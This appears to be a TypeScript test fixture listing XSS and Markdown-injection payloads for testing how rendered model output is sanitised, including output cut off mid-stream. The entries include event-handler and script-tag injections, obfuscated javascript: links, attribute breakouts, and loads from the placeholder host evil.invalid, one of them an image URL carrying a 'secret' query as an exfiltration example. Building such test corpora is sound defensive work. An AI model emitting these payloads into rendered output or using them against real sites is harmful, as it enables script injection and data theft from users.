/** Where nothing may ever be asked for. */
const target = 'https://evil.invalid'

/** What a model may write to be more than text. */
export const corpus: readonly string[] = [
  `<img src="${target}/1" onerror="window.alert(1)">`,
  `<script>alert(1)</script><script src="${target}/2"></script>`,
  `<iframe src="${target}/3"></iframe><object data="${target}/4"></object><embed src="${target}/5">`,
  `<svg onload=alert(1)><use href="${target}/6"/></svg>`,
  `<a href="javascript:alert(1)" onclick="alert(1)">press</a>`,
  `<link rel=preload as=image href="${target}/7"><meta http-equiv=refresh content="0;url=${target}">`,
  `<style>@import "${target}/8";</style><base href="${target}"><form action="${target}"><input name=q></form>`,
  `![picture](${target}/9?q=secret) ![](${target}/10) ![ref][1]\n\n[1]: ${target}/11`,
  '![x](data:image/svg+xml;base64,PHN2Zy8+) ![x](//evil.invalid/12) ![x](file:///etc/passwd)',
  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](vbscript:x) [d](data:text/html,<script>) [e](file:///c:/)',
  '[f](java&#115;cript:alert(1)) [g](&#106;avascript:alert(1)) [h](\u0001javascript:alert(1)) [i](java\nscript:x)',
  '[j](//evil.invalid) [k](/settings) [l](#top) [m](?x) [n]() [o](<>) [p](irc://evil.invalid) [q](ms-msdt:/id)',
  `[bank](https://bank.example@evil.invalid/) <https://user:pass@evil.invalid/> https://good.example@evil.invalid/`,
  `<${target}/"onmouseover="alert(1)> [r](${target}/" onmouseover="alert(1)") [s](${target} 'x" onclick="alert(1)')`,
  '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
  '```js onload=alert(1) {evil}\ncode\n```\n\n~~~<script>\nx\n~~~',
  `| <img src=x> | [a](javascript:alert(1)) |\n|:-:|--:|\n| <b onclick=alert(1)>x</b> | ![i](${target}/13) |`,
  `- [x] <input onfocus=alert(1) autofocus>\n- [ ] ![t](${target}/14)\n> <details ontoggle=alert(1) open>`,
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  `[![nested](${target}/15)](${target}/16) **[b](javascript:alert(1))** ~~<s onclick=x>~~ \`<img src=x>\``,
  'https://evil.invalid/<script>alert(1)</script> www.evil.invalid someone@evil.invalid mailto:a@evil.invalid',
  '__proto__ [constructor](https://evil.invalid) {{constructor.constructor("alert(1)")()}} <!-- --> <![CDATA[x]]>',
]

/** Where an answer may happen to be cut, without taking every place. */
export function* oddCuts(source: string): Generator<number> {
  for (let end = 1; end < source.length; end += 1 + ((end * 7) % 11)) yield end
}
